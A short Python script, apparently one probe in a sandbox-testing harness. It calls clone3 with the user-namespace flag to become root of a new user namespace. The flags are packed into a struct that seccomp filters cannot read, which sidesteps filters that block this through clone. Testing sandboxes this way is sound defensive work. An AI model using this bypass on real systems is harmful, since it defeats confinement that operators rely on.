"""Starts a child as root of a user namespace by the newer call, whose flags no filter can read."""

import ctypes
import os
import signal
import struct

from attack import attempt, call

NEW_USER = 0x10000000


def clone() -> str:
    arguments = struct.pack("<8Q", NEW_USER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    child = call("clone3", ctypes.create_string_buffer(arguments, 64), 64)
    if not child:
        os._exit(0)
    os.waitpid(child, 0)
    return "namespace made"


attempt(clone)
